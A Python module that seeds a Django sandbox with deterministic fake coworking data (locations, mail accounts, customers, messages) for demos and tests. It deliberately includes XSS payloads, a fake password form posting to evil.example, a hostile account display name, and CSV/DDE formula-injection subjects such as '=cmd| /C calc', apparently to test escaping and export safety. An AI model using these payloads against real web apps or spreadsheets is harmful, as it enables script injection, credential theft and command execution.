"""Realistic, deterministic data for the sandbox: locations, mail accounts, customers, messages.

Same ``seed`` → same records (dates are relative to ``now``). Built for speed: messages are first
laid out as a compact skeleton (time, thread, position), sorted by time so Ids grow with CreatedOn
as in Nexudus, then written in batches of plain tuples with ``executemany`` (100,000 messages take
seconds; 1,000,000 stay flat in memory).

What it guarantees, for the demo and the tests (each when there is room for it):

- every mail-account health state in ``ACCOUNT_PROFILES`` (healthy, failing, warning, inactive,
  stale, never checked, SSL off, misconfigured, Google- and Office365-connected);
- with 15 accounts or more, one named ``HOSTILE_ACCOUNT_NAME`` (markup in an admin-typed field);
- every body of ``HOSTILE_BODIES`` on an incoming message whose subject starts with
  ``HOSTILE_SUBJECT_PREFIX``; every subject of ``TRICKY_SUBJECTS`` (CSV-formula starters, commas,
  quotes, newlines, markup);
- non-Latin names and text, emoji, nulls where Nexudus allows them, messages through the location's
  default mail settings (``EmailAccountId`` null), ~15% unread, mostly incoming.
"""

from __future__ import annotations

import random
import uuid
from array import array
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

from django.db import connections, transaction

from inbox.platform import streaming
from sandbox.models import Business, Coworker, CoworkerMessage, Deletion, EmailAccount

DB = "sandbox"
FIRST_MESSAGE_ID = 1_000_001
FIRST_ACCOUNT_ID = 5_001
FIRST_BUSINESS_ID = 1_001
FIRST_COWORKER_ID = 20_001
HISTORY_DAYS = 183
SECRET_MARKER = "SANDBOX-SECRET"  # inside every fake OAuth token, so tests can look for leaks

# --- Hostile and tricky content ---------------------------------------------------------------

HOSTILE_SUBJECT_PREFIX = "[Security test]"
HOSTILE_BODIES: list[str] = [
    "<p>Hi, please see below.</p><script>alert(1)</script><p>Thanks!</p>",
    '<p>Photo of the broken lock attached.</p><img src=x onerror=alert(1)>',
    '<p>Please <a href="javascript:alert(1)">confirm your booking here</a>.</p>',
    '<svg onload=alert(1)><circle cx="5" cy="5" r="4"/></svg><p>Our new logo</p>',
    '<p>Invoice preview:</p><iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
    "<style>body{display:none}*{background:url(javascript:alert(1))}</style><p>Styled reply</p>",
    '<form action="https://evil.example/steal" method="post"><p>Session expired, sign in again:</p>'
    '<input name="password" type="password"><button type="submit">Sign in</button></form>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff" '
    'onmouseover="alert(1)">Click anywhere to continue</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Redirecting…</p>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><p>Embedded file</p>',
    '<a href=" JaVaScRiPt:alert(1)">mixed-case link</a> and '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data: link</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '"><script>alert(document.cookie)</script><p>Broken out of an attribute</p>',
    '<base href="https://evil.example/"><p>Log in <a href="/login">here</a> to see the document.</p>',
    '<p>Unclosed <b>tags <i>everywhere <table><tr><td>cell',
    '<img src="https://tracker.example/pixel.gif?u=4711" width="1" height="1" alt=""><p>Newsletter</p>',
]

TRICKY_SUBJECTS: list[str] = [
    '=HYPERLINK("http://evil.example","click")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1 555 0100 callback",
    "-- urgent",
    "-2+3 invoice adjustment",
    "@channel please read",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTab at the start",
    'Invoice #42, "final" version, not the draft',
    "Line one\nline two of the subject",
    "Semicolons; commas, and \"quotes\" 'everywhere'",
    '<b>Bold</b> subject with <script>alert("subject")</script>',
    "🎉 Friday drinks on the roof? 🍕🍻",
    "Réservation de la salle – déjà payée ?",
    "关于会议室预订的问题",
    "استفسار عن الفاتورة",
    "Ερώτηση για την κράτηση",
    "Вопрос по счёту за март",
    "Very long subject " + "that keeps going " * 20,
]

# --- Locations and mail accounts --------------------------------------------------------------

LOCATIONS = [
    ("Canal Works Amsterdam", "Netherlands", "EUR", "canalworks"),
    ("Shoreditch Loft London", "United Kingdom", "GBP", "shoreditchloft"),
    ("Gràcia Studios Barcelona", "Spain", "EUR", "graciastudios"),
    ("Kreuzberg Hub Berlin", "Germany", "EUR", "kreuzberghub"),
]

# The order matters: with fewer accounts than profiles, the first ones are made.
ACCOUNT_PROFILES = [
    "healthy",
    "failing",
    "warning",
    "inactive",
    "stale",
    "never_checked",
    "ssl_off",
    "ssl_off_outgoing",
    "no_incoming_server",
    "port_zero",
    "unknown_server_type",
    "google",
    "office365",
    "healthy",
    "healthy",
    "healthy",
]
# An admin-typed display name is markup too: the 15th account (a healthy one) carries this one.
HOSTILE_ACCOUNT_NAME = 'Front desk <img src=x onerror=alert("account")>'
HOSTILE_ACCOUNT_INDEX = 14
MAILBOX_NAMES = ["hello", "members", "billing", "events", "frontdesk", "community", "bookings", "support"]

# --- Customers ---------------------------------------------------------------------------------

FIRST_NAMES = [
    "Emma", "Liam", "Olivia", "Noah", "Sophie", "Lucas", "Mia", "Daan", "Julia", "Finn", "Hannah",
    "Jonas", "Laura", "Max", "Sara", "Tom", "Anna", "Ben", "Lena", "Sam", "Ruth", "Oscar", "Ivy",
    "Marta", "Pablo", "Greta", "Karl", "Nina", "Omar", "Aisha", "Priya", "Ravi", "Kenji", "Yuki",
]
LAST_NAMES = [
    "de Vries", "Smith", "Jansen", "Brown", "Bakker", "Wilson", "Visser", "Taylor", "Meijer",
    "García", "Martínez", "Schmidt", "Schneider", "Fischer", "O'Brien", "MacLeod", "Nowak",
    "Rossi", "Bianchi", "Okafor", "Mensah", "Patel", "Singh", "Tanaka", "Kowalski", "Van den Berg",
]
# (full name, ASCII mail handle, language of their messages)
INTERNATIONAL = [
    ("王伟", "wang.wei", "zh"), ("李娜", "li.na", "zh"), ("张敏", "zhang.min", "zh"),
    ("محمد العلي", "m.alali", "ar"), ("فاطمة الزهراء", "fatima.z", "ar"), ("يوسف حداد", "y.haddad", "ar"),
    ("Γιώργος Παπαδόπουλος", "g.papadopoulos", "el"), ("Ελένη Κωνσταντίνου", "eleni.k", "el"),
    ("Иван Петров", "ivan.petrov", "ru"), ("Ольга Смирнова", "olga.s", "ru"), ("Дмитрий Козлов", "d.kozlov", "ru"),
    ("José Álvarez", "jose.alvarez", "es"), ("Zoë Dubois", "zoe.dubois", "fr"), ("François Müller", "f.muller", "fr"),
    ("Søren Kjærgård", "soren.k", "en"), ("Łukasz Wróbel", "lukasz.w", "en"), ("Chloé Lefèvre", "chloe.l", "fr"),
    ("Ñuño Peña", "nuno.pena", "es"), ("佐藤 花子", "hanako.sato", "en"), ("Björn Åström", "bjorn.a", "en"),
]
COMPANIES = [
    "Pixel & Co", "Northwind Studio", "Blue Fern B.V.", "Café Zürich GmbH", "Smith & Sons, Ltd.",
    '"Quoted" Consulting', "北京科技有限公司", "Δέλτα Design", "ООО Ромашка", "Acme Robotics",
    "Greenleaf Analytics", "Holm & Friis ApS", "Lumen Labs", "Oak Street Legal", "=Formula Corp",
]
MAIL_DOMAINS = ["example.com", "example.org", "mail.example.net", "studio.example", "company.example"]

# --- Conversation material -------------------------------------------------------------------

# (subject, question, answer) per language
TOPICS: dict[str, list[tuple[str, str, str]]] = {
    "en": [
        ("Meeting room booking for Thursday",
         "Could I book the large meeting room on Thursday from 2 to 4pm? We will be six people.",
         "The large meeting room is booked for you on Thursday, 2–4pm. Coffee is on us."),
        ("Invoice question",
         "My last invoice shows two desk passes but I only used one. Could you check?",
         "You are right, we have issued a credit note for the second pass."),
        ("Wi-Fi keeps dropping",
         "The Wi-Fi on the second floor drops every few minutes since Monday.",
         "Our IT partner replaced the access point on the second floor this morning."),
        ("Parcel delivery",
         "I am expecting a parcel tomorrow, can reception sign for it?",
         "Of course, reception will keep it for you behind the front desk."),
        ("Guest access on Friday",
         "Two guests are visiting on Friday at 10am, can you register them?",
         "Both guests are registered; they will get a visitor badge at reception."),
        ("Cancel my membership",
         "I would like to cancel my membership at the end of next month.",
         "We have scheduled the cancellation; your last day is the end of next month."),
        ("Locker key lost",
         "I lost the key to locker 14. Is there a spare?",
         "We have a spare; a replacement key costs €10 and is ready at reception."),
        ("Printer out of toner",
         "The printer near the kitchen says toner low and prints blank pages.",
         "The toner has been replaced. Thanks for letting us know!"),
        ("Event space enquiry",
         "We would like to host a workshop for 40 people in May. Is the event space free?",
         "The event space is free on the dates you mentioned; a quote is attached."),
        ("Access card not working",
         "My access card stopped working at the main door this morning.",
         "We re-activated your card; please try again and tell us if it still fails."),
    ],
    "zh": [
        ("关于会议室预订", "您好，我想预订周四下午的会议室，可以吗？", "您好，会议室已为您预订好。"),
        ("发票问题", "我的发票金额好像不对，请帮忙核对一下。", "我们已核对并更正了您的发票。"),
    ],
    "ar": [
        ("حجز قاعة الاجتماعات", "مرحباً، أود حجز قاعة الاجتماعات يوم الخميس بعد الظهر.", "تم حجز القاعة لكم يوم الخميس."),
        ("سؤال عن الفاتورة", "يبدو أن هناك خطأ في فاتورتي الأخيرة.", "تم تصحيح الفاتورة، شكراً لتنبيهنا."),
    ],
    "el": [
        ("Κράτηση αίθουσας", "Γεια σας, θα ήθελα να κλείσω την αίθουσα συσκέψεων την Πέμπτη.", "Η αίθουσα είναι κλεισμένη για εσάς."),
    ],
    "ru": [
        ("Бронирование переговорной", "Здравствуйте! Можно забронировать переговорную на четверг?", "Переговорная забронирована для вас."),
        ("Вопрос по счёту", "В последнем счёте, кажется, ошибка.", "Мы исправили счёт, спасибо!"),
    ],
    "es": [
        ("Reserva de sala", "Hola, ¿puedo reservar la sala grande el jueves por la tarde?", "¡Hecho! La sala está reservada para ti."),
    ],
    "fr": [
        ("Réservation de la salle", "Bonjour, puis-je réserver la grande salle jeudi après-midi ?", "C'est fait, la salle est réservée pour vous."),
    ],
}
GREETINGS = {"en": "Hi", "zh": "您好", "ar": "مرحباً", "el": "Γεια σας", "ru": "Здравствуйте", "es": "Hola", "fr": "Bonjour"}
SIGN_OFFS = ["Thanks!", "Best regards,", "Cheers,", "Kind regards,", "Many thanks,", "Thank you 🙏"]
EMOJI = ["🙂", "👍", "🎉", "☕", "🚀", "❤️", "😅", "🙏", "✅", "📦"]
FOLLOW_UPS = [
    "Thanks a lot! One more thing: can I also get a parking spot?",
    "Great, thank you. Could you send me the receipt as well?",
    "Perfect 👍",
    "Sorry, it is still not working for me.",
    "Any update on this?",
]
# Automated outgoing messages: (MessageId from eBusinessMessageName, subject, heading)
AUTOMATED = [
    (3, "New invoice {n}", "Your new invoice"),
    (1, "Invoice {n} paid — thank you", "Payment received"),
    (2, "Reminder: invoice {n} is unpaid", "Invoice reminder"),
    (7, "Booking confirmation #{n}", "Your booking is confirmed"),
    (8, "Booking reminder #{n}", "Your booking starts soon"),
    (26, "A delivery is waiting for you", "Delivery received"),
    (22, "Re: your help-desk request #{n}", "We replied to your request"),
    (19, "Your visitor has arrived", "Visitor check-in"),
]
IMAGE_URLS = [
    "https://images.example.com/photos/desk-{n}.jpg",
    "https://cdn.example.org/screenshots/error-{n}.png",
    "https://static.example.net/floorplan-{n}.gif",
]


@dataclass(frozen=True)
class Summary:
    businesses: int
    accounts: int
    customers: int
    messages: int

    def __str__(self) -> str:
        return (
            f"{self.businesses} locations, {self.accounts} mail accounts, {self.customers} customers, "
            f"{self.messages} messages"
        )


def utcnow() -> datetime:
    return datetime.now(timezone.utc).replace(microsecond=0)


def guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def wipe() -> None:
    """Delete every generated record (configuration and tokens stay)."""
    with transaction.atomic(using=DB):
        for model in (CoworkerMessage, Coworker, EmailAccount, Business, Deletion):
            model.objects.using(DB).all()._raw_delete(DB)


def generate(
    *, accounts: int = 16, customers: int = 300, messages: int = 5000, seed: int = 42, now: datetime | None = None
) -> Summary:
    """Replace the sandbox's data with a freshly generated set."""
    now = (now or utcnow()).replace(microsecond=0)
    rng = random.Random(seed)
    wipe()
    businesses = make_businesses(rng, now)
    account_rows = make_accounts(rng, now, businesses, accounts)
    customer_rows = make_customers(rng, account_rows, customers)
    with transaction.atomic(using=DB):
        Business.objects.using(DB).bulk_create(businesses)
        EmailAccount.objects.using(DB).bulk_create(account_rows)
        Coworker.objects.using(DB).bulk_create(customer_rows)
    written = write_messages(MessageFactory(rng, now, account_rows, customer_rows), messages)
    return Summary(len(businesses), len(account_rows), len(customer_rows), written)


def make_businesses(rng: random.Random, now: datetime) -> list[Business]:
    out = []
    for i, (name, country, currency, slug) in enumerate(LOCATIONS):
        created = now - timedelta(days=900 - 100 * i)
        out.append(
            Business(
                id=FIRST_BUSINESS_ID + i, unique_id=guid(rng), name=name, web_address=f"https://{slug}.example",
                country_name=country, currency_code=currency, simple_time_zone_id=i + 1,
                created_on=created, updated_on=created + timedelta(days=30), updated_by="admin@example.com",
            )
        )
    return out


def make_accounts(rng: random.Random, now: datetime, businesses: list[Business], count: int) -> list[EmailAccount]:
    out = []
    for i in range(count):
        profile = ACCOUNT_PROFILES[i] if i < len(ACCOUNT_PROFILES) else "healthy"
        business = businesses[i % len(businesses)]
        slug = LOCATIONS[i % len(LOCATIONS)][3]
        box = MAILBOX_NAMES[(i // len(businesses)) % len(MAILBOX_NAMES)]
        suffix = "" if i < len(businesses) * len(MAILBOX_NAMES) else str(i)
        address = f"{box}{suffix}@{slug}.example"
        created = now - timedelta(days=rng.randint(200, 800))
        account = EmailAccount(
            id=FIRST_ACCOUNT_ID + i, unique_id=guid(rng), business_id=business.id,
            display_name=f"{business.name.split()[0]} {box.title()}{suffix}", email_address=address,
            active=True, send_notification_on_new_messages=rng.random() < 0.5,
            notification_email_address=f"staff@{slug}.example" if rng.random() < 0.5 else None,
            incoming_server=f"imap.{slug}.example", incoming_server_type=1, incoming_server_port=993,
            incoming_server_ssl=True, incoming_server_username=address, delete_message_settings=rng.choice([0, 1, 2, 3]),
            outgoing_server=f"smtp.{slug}.example", outgoing_server_port=587, outgoing_server_ssl=True,
            outgoing_server_username=address, reply_to_email=address if rng.random() < 0.3 else None,
            last_check_time=now - timedelta(seconds=rng.randint(30, 600)), last_message_id=rng.randint(1000, 90000),
            error_count=0, google_access_token=None, office365_access_token=None,
            created_on=created, updated_on=now - timedelta(minutes=rng.randint(1, 600)),
            updated_by="admin@example.com", is_new=False, system_id=None, profile=profile,
        )
        apply_profile(account, profile, rng, now)
        if i == HOSTILE_ACCOUNT_INDEX:
            account.display_name = HOSTILE_ACCOUNT_NAME
        out.append(account)
    return out


def apply_profile(account: EmailAccount, profile: str, rng: random.Random, now: datetime) -> None:
    if profile == "failing":
        account.error_count = 12
    elif profile == "warning":
        account.error_count = rng.choice([1, 2])
    elif profile == "inactive":
        account.active = False
        account.last_check_time = now - timedelta(days=rng.randint(20, 90))
    elif profile == "stale":
        account.last_check_time = now - timedelta(days=3, hours=rng.randint(0, 20))
    elif profile == "never_checked":
        account.last_check_time = None
        account.last_message_id = 0
    elif profile == "ssl_off":
        account.incoming_server_ssl = False
        account.incoming_server_port = 143
        account.outgoing_server_ssl = False
        account.outgoing_server_port = 25
    elif profile == "ssl_off_outgoing":
        account.outgoing_server_ssl = False
        account.outgoing_server_port = 25
    elif profile == "no_incoming_server":
        account.incoming_server = None
        account.incoming_server_username = ""
        account.last_check_time = None
        account.error_count = 3
    elif profile == "port_zero":
        account.incoming_server_port = 0
        account.error_count = 7
    elif profile == "unknown_server_type":
        account.incoming_server_type = 7
    elif profile == "google":
        account.incoming_server, account.outgoing_server = "imap.gmail.com", "smtp.gmail.com"
        account.google_access_token = f"ya29.{SECRET_MARKER}-{rng.getrandbits(160):040x}"
    elif profile == "office365":
        account.incoming_server, account.outgoing_server = "outlook.office365.com", "smtp.office365.com"
        account.office365_access_token = f"EwBwA8l6BAAU.{SECRET_MARKER}-{rng.getrandbits(192):048x}"


def make_customers(rng: random.Random, accounts: list[EmailAccount], count: int) -> list[Coworker]:
    out = []
    for i in range(count):
        if rng.random() < 0.2:
            name, handle, _lang = INTERNATIONAL[i % len(INTERNATIONAL)]
        else:
            first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
            name, handle = f"{first} {last}", f"{first}.{last}".lower().replace(" ", "").replace("'", "")
            handle = handle.encode("ascii", "ignore").decode()
        company = rng.choice(COMPANIES) if rng.random() < 0.4 else None
        roll = rng.random()
        out.append(
            Coworker(
                id=FIRST_COWORKER_ID + i,
                full_name=None if roll < 0.01 else name,
                email=None if 0.01 <= roll < 0.015 else f"{handle}{i}@{rng.choice(MAIL_DOMAINS)}",
                billing_name=None if rng.random() < 0.2 else (company or name),
                company_name=company,
                home_account_id=None if rng.random() < 0.1 or not accounts else rng.choice(accounts).id,
            )
        )
    return out


def language_of(name: str | None) -> str:
    for full, _handle, lang in INTERNATIONAL:
        if full == name:
            return lang
    return "en"


class MessageFactory:
    """Builds message rows (tuples in ``COLUMNS`` order) for threads of a customer."""

    COLUMNS = [
        "id", "unique_id", "coworker_id", "coworker_full_name", "coworker_email", "coworker_billing_name",
        "coworker_company_name", "email_account_id", "email_account_display_name",
        "email_account_email_address", "subject", "body", "is_new_message", "incoming", "message_id",
        "reminder_unique_id", "created_on", "updated_on", "updated_by", "is_new", "system_id",
    ]

    def __init__(self, rng: random.Random, now: datetime, accounts: list[EmailAccount], customers: list[Coworker]):
        self.rng = rng
        self.now = now
        self.accounts = {a.id: a for a in accounts}
        self.customers = customers
        self.langs = [language_of(c.full_name) for c in customers]
        self.staff = [f"{n}@{LOCATIONS[0][3]}.example" for n in ("anna", "bram", "carmen", "dev")]

    def row(
        self, *, id: int, customer: int, incoming: bool, created: datetime, topic: tuple[str, str, str],
        position: int, automated: int | None = None, subject: str | None = None, body: str | None = None,
        unread: bool | None = None,
    ) -> tuple:
        rng, c = self.rng, self.customers[customer]
        account = self.accounts.get(c.home_account_id) if c.home_account_id else None
        message_id = reminder = None
        if subject is None and body is None:
            subject, body, message_id, reminder = self.content(c, self.langs[customer], incoming, topic, position, automated)
        age_days = (self.now - created).total_seconds() / 86400
        if unread is None:
            unread = rng.random() < ((0.6 if age_days < 14 else 0.22) if incoming else 0.02)
        updated = created + timedelta(seconds=rng.randint(0, 300))
        updated_by = None if incoming else rng.choice(self.staff)
        if incoming and not unread:  # somebody read it later
            updated = created + timedelta(minutes=rng.randint(2, 3 * 24 * 60))
            updated_by = rng.choice(self.staff)
        updated = min(updated, self.now)
        return (
            id, guid(rng), c.id, c.full_name, c.email, c.billing_name, c.company_name,
            account.id if account else None, account.display_name if account else None,
            account.email_address if account else None, subject, body, unread, incoming, message_id,
            reminder, created, updated, updated_by, age_days < 1, None,
        )

    def content(self, c: Coworker, lang: str, incoming: bool, topic, position: int, automated: int | None):
        rng = self.rng
        subject, question, answer = topic
        first = (c.full_name or "there").split()[0]
        if automated is not None:
            return self.automated(c, automated)
        if rng.random() < 0.01:
            subject = None
        elif position > 0:
            subject = f"Re: {subject}"
        if rng.random() < 0.005:
            return subject, None, None, None
        if incoming:
            text = question if position == 0 else rng.choice(FOLLOW_UPS)
            if rng.random() < 0.12:
                text += " " + rng.choice(EMOJI)
            greeting, sign_off = GREETINGS.get(lang, "Hi"), rng.choice(SIGN_OFFS)
            if rng.random() < 0.2:  # plain text, quoted the e-mail way
                body = f"{greeting},\n\n{text}\n\n{sign_off}\n{c.full_name or ''}"
                if position > 0:
                    body += f"\n\n> {answer}"
                return subject, body, None, None
            body = f'<div dir="auto"><p>{greeting},</p><p>{text}</p>'
            if rng.random() < 0.15:
                url = rng.choice(IMAGE_URLS).format(n=rng.randint(1, 99))
                body += f'<p><img src="{url}" alt="photo" width="320"></p>'
            body += f"<p>{sign_off}<br>{c.full_name or ''}</p></div>"
            if rng.random() < 0.4:
                body += (
                    f'<div class="signature">--<br>{c.full_name or ""}<br>{c.company_name or ""}<br>'
                    f'<a href="https://www.{(c.email or "x@example.com").split("@")[1]}">'
                    f'www.{(c.email or "x@example.com").split("@")[1]}</a></div>'
                )
            if position > 0:
                body += f'<blockquote type="cite"><p>On an earlier day, the team wrote:</p><p>{answer}</p></blockquote>'
            return subject, body, None, None
        body = (
            f"<p>{GREETINGS.get(lang, 'Hi')} {first},</p><p>{answer}</p>"
            f'<p>Kind regards,<br>The community team<br><a href="https://{LOCATIONS[0][3]}.example">'
            f"{LOCATIONS[0][3]}.example</a></p>"
            f'<blockquote type="cite"><p>{c.full_name or "You"} wrote:</p><p>{question}</p></blockquote>'
        )
        return subject, body, None, None

    def automated(self, c: Coworker, kind: int):
        rng = self.rng
        message_id, subject_template, heading = AUTOMATED[kind % len(AUTOMATED)]
        n = rng.randint(1000, 99999)
        subject = subject_template.format(n=n)
        body = (
            "<!DOCTYPE html><html><head><style>.btn{background:#2b6cb0;color:#fff;padding:8px}</style></head>"
            f'<body><table width="100%"><tr><td><h1>{heading}</h1><p>Dear {c.full_name or "member"},</p>'
            f"<p>Reference {n}. Amount due: €{rng.randint(10, 900)}.{rng.randint(0, 99):02d}</p>"
            f'<p><a class="btn" href="https://{LOCATIONS[0][3]}.example/portal/{n}">Open in the portal</a></p>'
            "</td></tr></table></body></html>"
        )
        reminder = guid(rng) if message_id == 8 else None
        return subject, body, message_id, reminder


def layout(rng: random.Random, now: datetime, customers: int, count: int):
    """The skeleton: per message (time, thread); per thread (customer, topic, first incoming?, automated)."""
    times, threads = array("d"), array("l")
    t_customer, t_auto, t_incoming = array("l"), array("l"), array("b")
    end = now.timestamp() - 60
    start = end - HISTORY_DAYS * 86400
    # A few customers write a lot, most a little (a Pareto-like skew).
    weights = [1.0 / (1 + (i % 97)) ** 0.8 for i in range(customers)]
    cumulative, total = [], 0.0
    for w in weights:
        total += w
        cumulative.append(total)
    produced = 0
    while produced < count:
        thread = len(t_customer)
        customer = min(customers - 1, _bisect(cumulative, rng.random() * total))
        automated = rng.randrange(len(AUTOMATED)) if rng.random() < 0.15 else -1
        length = 1 if automated >= 0 else rng.choice((1, 1, 2, 2, 3, 3, 4, 5))
        t_customer.append(customer)
        t_auto.append(automated)
        t_incoming.append(1 if automated < 0 and rng.random() < 0.85 else 0)
        t = rng.uniform(start, end)
        for _ in range(min(length, count - produced)):
            if t > end:
                break
            times.append(t)
            threads.append(thread)
            produced += 1
            t += rng.uniform(300, 2 * 86400)
    return times, threads, t_customer, t_auto, t_incoming


def _bisect(cumulative: list[float], x: float) -> int:
    lo, hi = 0, len(cumulative)
    while lo < hi:
        mid = (lo + hi) // 2
        if cumulative[mid] < x:
            lo = mid + 1
        else:
            hi = mid
    return lo


def write_messages(factory: MessageFactory, count: int, *, batch_size: int = 5000) -> int:
    if count <= 0 or not factory.customers:
        return 0
    rows = iter_message_rows(factory, count)
    return insert_rows(CoworkerMessage, MessageFactory.COLUMNS, rows, batch_size=batch_size)


def iter_message_rows(factory: MessageFactory, count: int) -> Iterator[tuple]:
    rng, now = factory.rng, factory.now
    times, threads, t_customer, t_auto, t_incoming = layout(rng, now, len(factory.customers), count)
    order = sorted(range(len(times)), key=times.__getitem__)
    position_seen: dict[int, int] = {}
    incoming_of = []
    positions = array("l", bytes(8 * len(order)))
    for index, k in enumerate(order):
        thread = threads[k]
        position = position_seen.get(thread, 0)
        position_seen[thread] = position + 1
        positions[index] = position
        incoming_of.append(bool(t_incoming[thread]) == (position % 2 == 0) and t_auto[thread] < 0)
    specials = place_specials(rng, incoming_of)
    for index, k in enumerate(order):
        thread = threads[k]
        customer = t_customer[thread]
        lang = factory.langs[customer]
        topics = TOPICS.get(lang, TOPICS["en"]) if rng.random() < 0.8 else TOPICS["en"]
        topic = topics[thread % len(topics)]
        created = datetime.fromtimestamp(int(times[k]), timezone.utc)
        automated = t_auto[thread] if t_auto[thread] >= 0 else None
        special = specials.get(index)
        kwargs = {}
        if special is not None:
            kwargs = {"subject": special[0], "body": special[1]}
        yield factory.row(
            id=FIRST_MESSAGE_ID + index, customer=customer, incoming=incoming_of[index], created=created,
            topic=topic, position=positions[index], automated=automated, **kwargs,
        )


def place_specials(rng: random.Random, incoming_of: list[bool]) -> dict[int, tuple[str | None, str | None]]:
    """Where the hostile bodies and tricky subjects go: each at least once, then a sprinkling."""
    n = len(incoming_of)
    incoming = [i for i, flag in enumerate(incoming_of) if flag]
    placed: dict[int, tuple[str | None, str | None]] = {}
    if not incoming:
        return placed
    extra_hostile = n // 300
    for j in range(len(HOSTILE_BODIES) + extra_hostile):
        if len(placed) >= len(incoming):
            break
        body = HOSTILE_BODIES[j % len(HOSTILE_BODIES)]
        index = _free(rng, incoming, placed)
        placed[index] = (f"{HOSTILE_SUBJECT_PREFIX} #{j % len(HOSTILE_BODIES) + 1}", body)
    extra_tricky = n // 200
    for j in range(len(TRICKY_SUBJECTS) + extra_tricky):
        if len(placed) >= n:
            break
        index = _free(rng, range(n), placed)
        subject = TRICKY_SUBJECTS[j % len(TRICKY_SUBJECTS)]
        placed[index] = (subject, f"<p>{_escape(subject)}</p><p>Sent from my phone</p>")
    return placed


def _free(rng: random.Random, candidates, placed: dict) -> int:
    candidates = list(candidates) if not isinstance(candidates, (list, range)) else candidates
    while True:
        index = candidates[rng.randrange(len(candidates))]
        if index not in placed:
            return index


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def insert_rows(model, columns: list[str], rows, *, batch_size: int = 5000) -> int:
    """Plain tuples into the sandbox's database (``COPY`` on PostgreSQL, ``executemany`` on
    SQLite): building model instances would cost more than the insert itself."""
    return streaming.insert_rows(connections[DB], model, columns, rows, batch_size=batch_size)
